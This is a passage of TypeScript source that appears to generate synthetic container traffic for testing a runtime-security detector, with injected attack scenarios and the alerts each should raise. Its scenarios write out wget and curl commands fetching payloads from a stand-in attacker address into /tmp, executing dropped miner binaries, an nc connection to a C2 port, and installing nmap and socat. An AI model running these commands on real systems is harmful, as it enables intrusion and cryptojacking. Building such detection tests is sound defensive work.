      x.connect(t + 8, nc, C2, 4444);
    },
  },
  {
    id: 'busybox-wget-download', workload: 'billing-sync', expected: 'high (network tool: busybox wget)',
    description: 'busybox wget downloads a payload over plain HTTP to /tmp in a node:alpine image',
    run(x, t) {
      const sh = x.exec(t, applet('sh', ['-c', 'wget -q -O /tmp/.x http://203.0.113.50/x && chmod +x /tmp/.x']), x.main);
      const w = x.exec(t + 5, applet('wget', ['-q', '-O', '/tmp/.x', 'http://203.0.113.50/x'], '/usr/bin'), sh);
      x.connect(t + 8, w, ATTACKER, 80);
    },
  },
  {
    id: 'curl-download', workload: 'orders', expected: 'high (network tool: curl)',
    description: 'curl downloads a payload over plain HTTP',
    run(x, t) {
      const sh = x.exec(t, bin('/bin/bash', ['-c', 'curl -fsSL -o /tmp/m http://203.0.113.50/m'], '/usr/bin/bash'), x.main);
      const c = x.exec(t + 5, bin('/usr/bin/curl', ['-fsSL', '-o', '/tmp/m', 'http://203.0.113.50/m']), sh);
      x.connect(t + 8, c, ATTACKER, 80);
    },
  },
  {
    id: 'drop-exec-tmp', workload: 'web', expected: 'high (Drop and execute new binary in container)',
    description: 'a binary dropped in /tmp runs',
    run(x, t) {
      const sh = x.exec(t, dash(['-c', 'chmod +x /tmp/kworkerd && /tmp/kworkerd']), x.main);
      x.exec(t + 5, bin('/tmp/kworkerd', ['-o', 'pool.example.net:3333']), sh);
    },
  },
  {
    id: 'drop-exec-devshm', workload: 'report', expected: 'high (Drop and execute new binary in container)',
    description: 'a binary dropped in /dev/shm runs under the batch job',
    run: (x, t) => void x.exec(t, bin('/dev/shm/.x/miner', ['--donate-level', '1']), x.main),
  },
  {
    id: 'package-manager-apk', workload: 'thumbnailer', expected: 'high (Launch Package Management Process in Container)',
    description: 'apk add in a running alpine container',
    run(x, t) {
      const sh = x.exec(t, applet('sh', ['-c', 'apk add --no-cache socat']), x.main);
      x.exec(t + 5, bin('/sbin/apk', ['add', '--no-cache', 'socat']), sh);
    },
  },
  {
    id: 'package-manager-apt', workload: 'web', expected: 'high (Launch Package Management Process in Container)',
    description: 'apt-get install in a running debian container',
    run(x, t) {
      const sh = x.exec(t, dash(['-c', 'apt-get update && apt-get install -y nmap']), x.main);
      x.exec(t + 5, bin('/usr/bin/apt-get', ['install', '-y', 'nmap']), sh);
    },
  },
  {
    id: 'new-public-port', workload: 'billing-sync', expected: 'high (public egress on a port never used)',
    description: 'the cloud-API client connects to an address in its usual ranges on port 9001',
    run: (x, t) => x.connect(t, x.main, '34.200.12.7', 9001),
  },
  {
    id: 'new-protocol', workload: 'billing-sync', expected: 'high (public egress over a protocol never used)',
    description: 'the cloud-API client sends UDP to port 443 of an address in its usual ranges',
    run: (x, t) => x.connect(t, x.main, '3.210.44.9', 443, 'udp'),
  },
  {
    id: 'public-from-private-image', workload: 'postgres', expected: 'high (public egress from an image that never talks public)',
    description: 'postgres connects to a public address',
    run: (x, t) => x.connect(t, x.main, EXFIL, 443),
  },
  {
    id: 'new-listen-port', workload: 'redis', expected: 'high (new listening port)',
    description: 'redis-server listens on 31337',
    run: (x, t) => x.listen(t, x.main, 31337),
  },
];

/** What identifies one event of an attack among deviations: its node, pid and millisecond. */
export function attackMark(node: string, pid: number, timeMs: number): string {
  return `${node}|${pid}|${timeMs}`;
}

/** The attack ids, in injection order. */
export const ATTACK_IDS: readonly string[] = ATTACKS.map((a) => a.id);

/** Inject every attack into the enforce phase, each into a container of its workload running then. */
function injectAttacks(b: PhaseBuilder, list: Workload[], running: Map<string, Container[]>): Attack[] {
  const out: Attack[] = [];
  const span = b.endMs - b.startMs;
  ATTACKS.forEach((a, i) => {
    const w = list.find((x) => x.name === a.workload) as Workload;
    // Spread over the phase, never in its first tenth (pods still starting).
    let t = b.startMs + Math.floor(span * (0.1 + (0.85 * (i + 0.5)) / ATTACKS.length)) + b.rng.int(0, 30 * SECOND);
    const all = running.get(w.name) ?? [];
    const candidates = all.filter((c) => c.start + 2 * MINUTE <= t && t + MINUTE < c.end);
    // A CronJob runs only minutes at a time: then the attack moves into the run nearest to it.
    const roomy = all.filter((c) => c.end - c.start > 3 * MINUTE && c.start >= b.startMs && c.start + 3 * MINUTE < b.endMs);
    roomy.sort((p, q) => Math.abs(p.start - t) - Math.abs(q.start - t));
    const c = candidates.length > 0 ? b.rng.pick(candidates) : (roomy[0] as Container);
    if (!c) throw new Error(`attack ${a.id}: no container of ${w.name} runs long enough in the enforce phase`);
    if (candidates.length === 0) t = c.start + 2 * MINUTE;
    const before = (b.byNode.get(c.node) as Activity[]).length;
    const x = new Ctx(b, c, a.id, ATTACK_PID_BASE + i * 100);
    x.main = b.mains.get(c) as Proc;
    a.run(x, t);
    const added = (b.byNode.get(c.node) as Activity[]).slice(before).filter((e) => e.attack === a.id);
    out.push({ id: a.id, description: a.description, image: w.repository, expected: a.expected, node: c.node, pids: [...new Set(added.map((e) => e.proc.pid))], time: t, events: added.length, marks: added.map((e) => attackMark(e.node, e.proc.pid, e.time)) });
  });
  return out;
}

/** Generate the three phases and the attacks. The same spec always gives the same traffic. */
export function generateTraffic(spec: TrafficSpec): Traffic {
  const list = workloads(spec.syntheticImages).map((w) => ({ ...w, ticks: w.ticks.map((t) => ({ ...t, everyMs: t.everyMs * spec.slowdown })) }));
  const digestRng = new Rng(spec.seed * 7919 + 1);
  const digests = new Map(list.map((w) => [w.name, w.tags.map(() => digestOf(digestRng))]));
  const lengths: Record<Phase, number> = { learn: spec.learnMs, enforce: spec.enforceMs, fresh: spec.freshMs };
  const phases: PhaseTraffic[] = [];
  let attacks: Attack[] = [];
  let at = spec.startMs;
  PHASES.forEach((phase, i) => {
    const nodes = Array.from({ length: phase === 'learn' ? 5 : 6 }, (_, k) => `node-${k + 1}`);
    const b = new PhaseBuilder(phase, new Rng(spec.seed * 1_000_003 + (i + 1) * 7_777), at, at + lengths[phase], nodes);
    const running = runPhase(b, list, digests);
    if (phase === 'enforce') attacks = injectAttacks(b, list, running);
    let events = 0;
    for (const [, evs] of b.byNode) {
      evs.sort((p, q) => p.time - q.time || p.ns - q.ns);
      events += evs.length;
    }
    phases.push({ phase, startMs: b.startMs, endMs: b.endMs, nodes, byNode: b.byNode, events, containers: b.containers, containerHours: b.containerMs / 3_600_000 });
    at += lengths[phase];
  });
  return { phases, attacks, images: [...new Set(list.map((w) => w.repository))] };
}
